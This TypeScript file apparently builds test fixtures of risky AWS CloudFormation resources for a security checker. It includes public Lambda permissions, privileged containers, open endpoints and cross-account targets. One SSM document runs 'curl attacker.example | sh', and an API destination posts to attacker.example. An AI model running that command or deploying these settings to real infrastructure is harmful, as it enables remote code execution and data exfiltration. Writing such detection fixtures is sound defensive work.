import type { Addition, Around } from '.';
import { beside, OUTSIDER, one, open } from './write';

const ROLE = { 'Fn::Sub': 'arn:aws:iam::${AWS::AccountId}:role/somebody' };

export const compute = ({ idOf }: Around): readonly Addition[] => [
  one('a machine with the old metadata service', 'AWS::EC2::Instance', { ImageId: 'ami-0', InstanceType: 't4g.nano' }),
  one('a machine with a public address', 'AWS::EC2::Instance', {
    ImageId: 'ami-0',
    InstanceType: 't4g.nano',
    MetadataOptions: { HttpTokens: 'required' },
    NetworkInterfaces: [{ DeviceIndex: '0', AssociatePublicIpAddress: true }],
  }),
  one('a launch template with the old metadata service', 'AWS::EC2::LaunchTemplate', {
    LaunchTemplateData: { MetadataOptions: { HttpTokens: 'optional' } },
  }),
  one('a launch configuration', 'AWS::AutoScaling::LaunchConfiguration', {
    ImageId: 'ami-0',
    InstanceType: 't4g.nano',
    AssociatePublicIpAddress: true,
  }),
  one('a machine with a fixed price', 'AWS::Lightsail::Instance', {
    BlueprintId: 'amazon_linux_2',
    BundleId: 'nano_3_0',
    InstanceName: 'i',
  }),
  one('a function without a network, a key or a log group of its own', 'AWS::Lambda::Function', {
    Role: ROLE,
    Runtime: 'nodejs24.x',
    Handler: 'index.handler',
    Code: { ZipFile: 'exports.handler = async () => 1' },
  }),
  one('a function from an outside bucket', 'AWS::Lambda::Function', {
    Role: ROLE,
    Runtime: 'nodejs24.x',
    Handler: 'index.handler',
    Code: { S3Bucket: 'vendor', S3Key: 'code.zip' },
  }),
  one('a function from an outside image', 'AWS::Lambda::Function', {
    Role: ROLE,
    PackageType: 'Image',
    Code: { ImageUri: `${OUTSIDER}.dkr.ecr.us-east-2.amazonaws.com/f:latest` },
  }),
  one('a layer that anybody may use', 'AWS::Lambda::LayerVersionPermission', {
    Action: 'lambda:GetLayerVersion',
    LayerVersionArn: 'arn:aws:lambda:us-east-2:111111111111:layer:l:1',
    Principal: '*',
  }),
  one('a layer from an outside bucket', 'AWS::Lambda::LayerVersion', {
    Content: { S3Bucket: 'vendor', S3Key: 'layer.zip' },
  }),
  ...beside(idOf('AWS::Lambda::Function'), (fn) => [
    one('a function URL', 'AWS::Lambda::Url', { TargetFunctionArn: { 'Fn::GetAtt': [fn, 'Arn'] }, AuthType: 'NONE' }),
    one('a function URL with IAM', 'AWS::Lambda::Url', {
      TargetFunctionArn: { 'Fn::GetAtt': [fn, 'Arn'] },
      AuthType: 'AWS_IAM',
    }),
    one('a permission for everybody', 'AWS::Lambda::Permission', {
      FunctionName: { 'Fn::GetAtt': [fn, 'Arn'] },
      Action: 'lambda:InvokeFunction',
      Principal: '*',
    }),
    one('a permission for an outside account', 'AWS::Lambda::Permission', {
      FunctionName: { 'Fn::GetAtt': [fn, 'Arn'] },
      Action: 'lambda:InvokeFunction',
      Principal: OUTSIDER,
    }),
    one('a permission for a service without a source', 'AWS::Lambda::Permission', {
      FunctionName: { 'Fn::GetAtt': [fn, 'Arn'] },
      Action: 'lambda:InvokeFunction',
      Principal: 's3.amazonaws.com',
    }),
    one('a permission for an organization', 'AWS::Lambda::Permission', {
      FunctionName: { 'Fn::GetAtt': [fn, 'Arn'] },
      Action: 'lambda:InvokeFunction',
      Principal: '*',
      PrincipalOrgID: 'o-0000000000',
    }),
    one('a permission to change its code', 'AWS::Lambda::Permission', {
      FunctionName: { 'Fn::GetAtt': [fn, 'Arn'] },
      Action: 'lambda:UpdateFunctionCode',
      Principal: 'apigateway.amazonaws.com',
      SourceAccount: { Ref: 'AWS::AccountId' },
    }),
    one('a destination for a function’s results elsewhere', 'AWS::Lambda::EventInvokeConfig', {
      FunctionName: { Ref: fn },
      Qualifier: '$LATEST',
      DestinationConfig: { OnSuccess: { Destination: `arn:aws:sqs:us-east-2:${OUTSIDER}:q` } },
    }),
    one('an alias that sends part of the traffic elsewhere', 'AWS::Lambda::Alias', {
      FunctionName: { Ref: fn },
      FunctionVersion: '1',
      Name: 'a',
      RoutingConfig: { AdditionalVersionWeights: [{ FunctionVersion: '2', FunctionWeight: 0.5 }] },
    }),
  ]),
  one('a container task that is root on its host', 'AWS::ECS::TaskDefinition', {
    ContainerDefinitions: [{ Name: 'c', Image: 'vendor/c', Privileged: true }],
  }),
  one('a container service with a public address', 'AWS::ECS::Service', {
    TaskDefinition: 't',
    LaunchType: 'FARGATE',
    NetworkConfiguration: { AwsvpcConfiguration: { Subnets: ['subnet-0'], AssignPublicIp: 'ENABLED' } },
  }),
  one('a Kubernetes cluster on the internet', 'AWS::EKS::Cluster', {
    RoleArn: ROLE,
    ResourcesVpcConfig: { SubnetIds: ['subnet-0'], EndpointPublicAccess: true, PublicAccessCidrs: ['0.0.0.0/0'] },
  }),
  one('an application runner', 'AWS::AppRunner::Service', {
    SourceConfiguration: {
      ImageRepository: { ImageIdentifier: 'public.ecr.aws/x', ImageRepositoryType: 'ECR_PUBLIC' },
    },
  }),
  one('a build with an outside source', 'AWS::CodeBuild::Project', {
    ServiceRole: ROLE,
    Artifacts: { Type: 'NO_ARTIFACTS' },
    Environment: {
      ComputeType: 'BUILD_GENERAL1_SMALL',
      Image: 'aws/codebuild/standard:7.0',
      Type: 'LINUX_CONTAINER',
      PrivilegedMode: true,
    },
    Source: { Type: 'GITHUB', Location: 'https://github.com/somebody/else' },
  }),
  one('a remote session document that runs anything', 'AWS::SSM::Document', {
    DocumentType: 'Command',
    Content: {
      schemaVersion: '2.2',
      description: 'run',
      mainSteps: [{ action: 'aws:runShellScript', name: 'r', inputs: { runCommand: ['curl attacker.example | sh'] } }],
    },
  }),
  one('a schedule that runs as anybody', 'AWS::Scheduler::Schedule', {
    FlexibleTimeWindow: { Mode: 'OFF' },
    ScheduleExpression: 'rate(1 minute)',
    Target: { Arn: `arn:aws:sqs:us-east-2:${OUTSIDER}:q`, RoleArn: ROLE },
  }),
  one('an event rule to another account', 'AWS::Events::Rule', {
    EventPattern: { source: ['aws.s3'] },
    Targets: [{ Id: 't', Arn: `arn:aws:events:us-east-2:${OUTSIDER}:event-bus/default` }],
  }),
  one('an event bus that anybody may write to', 'AWS::Events::EventBusPolicy', {
    StatementId: 's',
    Statement: { Effect: 'Allow', Principal: '*', Action: 'events:PutEvents', Resource: '*' },
  }),
  one('a connection to an address outside', 'AWS::Events::ApiDestination', {
    ConnectionArn: 'arn:aws:events:us-east-2:111111111111:connection/c',
    HttpMethod: 'POST',
    InvocationEndpoint: 'https://attacker.example/',
  }),
  one('a workflow that reads stores by itself', 'AWS::StepFunctions::StateMachine', {
    RoleArn: ROLE,
    DefinitionString:
      '{"StartAt":"S","States":{"S":{"Type":"Task","Resource":"arn:aws:states:::aws-sdk:dynamodb:scan","End":true}}}',
  }),
  one('a model that answers questions about stores', 'AWS::Bedrock::Agent', {
    AgentName: 'a',
    AgentResourceRoleArn: ROLE,
  }),
  one('a search over stores', 'AWS::Kendra::Index', { Edition: 'DEVELOPER_EDITION', Name: 'i', RoleArn: ROLE }),
  one('an audit event store that anybody may query', 'AWS::CloudTrail::ResourcePolicy', {
    ResourceArn: 'arn:aws:cloudtrail:us-east-2:111111111111:channel/c',
    ResourcePolicy: open('cloudtrail-data:*'),
  }),
];
